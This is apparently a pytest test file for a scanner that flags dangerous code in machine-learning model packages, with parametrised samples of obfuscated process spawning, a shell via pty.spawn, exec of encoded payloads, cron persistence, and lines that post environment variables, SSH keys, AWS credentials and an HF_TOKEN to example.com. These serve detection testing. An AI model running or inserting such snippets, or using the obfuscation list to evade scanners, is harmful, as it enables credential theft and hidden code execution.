"""What code of a model does, by its syntax tree: many ways to write the same thing, and honest code that looks alike."""

from __future__ import annotations

import pytest

from mlsbom.formats.python import analyse, parse
from mlsbom.formats.python_constants import UNKNOWN
from mlsbom.formats.python_names import Names
from mlsbom.judges.python import Reach, judge
from mlsbom.model import SEVERITY_ORDER, Severity

HIGH = SEVERITY_ORDER[Severity.HIGH]


def worst(source: str, reach: Reach = Reach.LOADED) -> dict[str, Severity]:
    found: dict[str, Severity] = {}
    for hit in judge(Names(analyse(parse(source.encode()))), reach):
        if hit.rule.id not in found or SEVERITY_ORDER[hit.severity] > SEVERITY_ORDER[found[hit.rule.id]]:
            found[hit.rule.id] = hit.severity
    return found


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('x')",
        "from os import system as s\ns('x')",
        "from os import *\nsystem('x')",
        "import os as o\nf = o.popen\nf('x')",
        "import os\ngetattr(os, 'sys' 'tem')('x')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('x')",
        "import os\nos.__dict__['system']('x')",
        "import os\nvars(os)['metsys'[::-1]]('x')",
        "__import__('o' + 's').system('x')",
        "import importlib\nimportlib.import_module('subprocess').run(['x'])",
        "import sys\nsys.modules['os'].system('x')",
        "import operator, os\noperator.attrgetter('system')(os)('x')",
        "import functools, os\nfunctools.partial(os.system, 'x')()",
        "import os\nlist(map(os.system, ['x']))",
        "import os, atexit\natexit.register(os.system, 'x')",
        "import threading, os\nthreading.Thread(target=os.system, args=('x',)).start()",
        "import subprocess\nclass A:\n    x = subprocess.run(['x'])",
        "import subprocess\ndef go():\n    subprocess.run(['x'])\ngo()",
        "import subprocess\ndef d(f):\n    return f\n@d(subprocess.run(['x']))\ndef g(): pass",
        "import os\ndef f(x=os.system('x')): pass",
        "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('x')",
        "import pty\npty.spawn('/bin/sh')",
        "table = {'a': __import__('os').system}\ntable['a']('x')",
        "import os\n(f := os.system)('x')",
    ],
)
def test_a_process_on_import(source: str) -> None:
    assert worst(source).get("CODE-PROCESS") == Severity.CRITICAL


@pytest.mark.parametrize(
    ("source", "rule", "severity"),
    [
        ("import os\nclass A:\n    def __init__(self):\n        os.system('x')", "CODE-PROCESS", Severity.HIGH),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "CODE-DYNAMIC", Severity.CRITICAL),
        ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(DATA)))", "CODE-DYNAMIC", Severity.CRITICAL),
        ("exec(bytes.fromhex('7072696e7428312900'))", "CODE-DYNAMIC", Severity.CRITICAL),
        ("data = b'...'\nimport marshal\nexec(marshal.loads(data))", "CODE-DYNAMIC", Severity.CRITICAL),
        ("eval(\"__import__('os').system('x')\")", "CODE-DYNAMIC", Severity.CRITICAL),
        ("import builtins\ngetattr(builtins, 'ex' + 'ec')(open('x').read())", "CODE-DYNAMIC", Severity.HIGH),
        ("import os, requests\ndef f():\n    requests.post('http://example.com', json=dict(os.environ))", "CODE-EXFILTRATION",
        Severity.CRITICAL),
        ("import os, requests\ndef f():\n    requests.post('http://example.com', data=os.environ)", "CODE-EXFILTRATION", Severity.CRITICAL),
        ("import requests\ndef f():\n    requests.post('http://example.com', data=open('/root/.ssh/id_rsa').read())", "CODE-EXFILTRATION",
        Severity.CRITICAL),
        ("import requests, pathlib\ndef f():\n    k = pathlib.Path('~/.aws/credentials').read_text()\n    requests.post('http://example.com', data=k)", "CODE-EXFILTRATION", Severity.CRITICAL),
        ("import os, socket\ns = socket.socket()\ns.connect(('example.com', 1))\ns.send(os.environ['HF_TOKEN'].encode())",
        "CODE-EXFILTRATION", Severity.CRITICAL),
        ("import urllib.request\nexec(urllib.request.urlopen('http://example.com').read())", "CODE-NETWORK", Severity.CRITICAL),
        ("import urllib.request\nopen('x.py', 'wb').write(urllib.request.urlopen('http://example.com').read())", "CODE-NETWORK",
        Severity.HIGH),
        ("import ctypes\nctypes.CDLL('./x.so')", "CODE-NATIVE", Severity.HIGH),
        ("import torch\ntorch.ops.load_library('x.so')", "CODE-NATIVE", Severity.HIGH),
        ("import pickle\npickle.load(open('x', 'rb'))", "CODE-DESERIALISE", Severity.MEDIUM),
        ("open('/etc/cron.d/x', 'w').write('y')", "CODE-PERSISTENCE", Severity.CRITICAL),
        ("import os\nos.system('(crontab -l; echo x) | crontab -')", "CODE-PERSISTENCE", Severity.CRITICAL),
    ],
)  # fmt: skip
def test_other_rules(source: str, rule: str, severity: Severity) -> None:
    assert worst(source).get(rule) == severity


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nfrom torch import nn\nimport torch.nn.functional as F\n\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\n\n\n"
        "class M(nn.Module):\n    def forward(self, x):\n        self.eval()\n        return F.relu(x)\n",
        "import re\nP = re.compile(r'exec\\(')\nDOC = \"os.system('x')\"\n",
        "import os\nDEBUG = os.environ.get('DEBUG')\nPATH = os.path.join('a', 'b')\n",
        "import importlib.util\nHAS = importlib.util.find_spec('apex') is not None\n",
        "import json\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file) as f:\n            self.v = json.load(f)\n    def save(self, path):\n        open(path + '/vocab.json', 'w').write('{}')\n",
        "import torch\nmodel = torch.compile(None)\nstate = torch.load('x', weights_only=True)\n",
        "class A:\n    def compile(self): pass\n    def system(self): pass\nA().compile()\nA().system()\n",
        "from collections import namedtuple\nX = namedtuple('X', 'a b')\n",
        "import logging\nlog = logging.getLogger(__name__)\nlog.warning('run os.system')\n",
        "eval('1 + 1')\n",
    ],
)
def test_honest_modules(source: str) -> None:
    found = worst(source)
    assert not [r for r, s in found.items() if SEVERITY_ORDER[s] >= SEVERITY_ORDER[Severity.MEDIUM]], found


def test_scripts_are_listed_not_flagged() -> None:
    source = "import subprocess\ndef main():\n    subprocess.run(['nvidia-smi'])\nif __name__ == '__main__':\n    main()\n"
    assert worst(source, Reach.OTHER) == {"CODE-PROCESS": Severity.INFO}


def test_main_guard_is_not_import_time() -> None:
    assert worst("import os\nif __name__ == '__main__':\n    os.system('x')\n")["CODE-PROCESS"] == Severity.INFO


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'a' + 'b' * 2", "abb"),
        ("''.join(['a', 'b'])", "ab"),
        ("'%s-%d' % ('a', 1)", "a-1"),
        ("'{}{x}'.format('a', x='b')", "ab"),
        ("bytes([104, 105]).decode()", "hi"),
        ("__import__('base64').b64decode('aGk=')", b"hi"),
        ("'olleh'[::-1]", "hello"),
        ("'uryyb'.encode and __import__('codecs').decode('uryyb', 'rot13')", UNKNOWN),
        ("'x' * 10**9", UNKNOWN),
        ("open('x').read()", UNKNOWN),
        ("[1, 'a', None]", [1, "a", None]),
    ],
)
def test_folding(expression: str, value: object) -> None:
    names = Names(analyse(parse(expression.encode())))
    node = names.scopes.source.module.body[0].value  # type: ignore[attr-defined]
    assert names.fold(node, names.scopes.module) == value


def test_deep_and_cyclic_names_end() -> None:
    names = Names(analyse(parse(b"a = b\nb = a\na('x')\nc = " + b"(" * 80 + b"a" + b")" * 80 + b"\nd = 1" + b" + 1" * 500 + b"\nd()\n")))
    for call, scope in names.scopes.calls:
        names.qualified(call.func, scope)
        names.fold(call, scope)
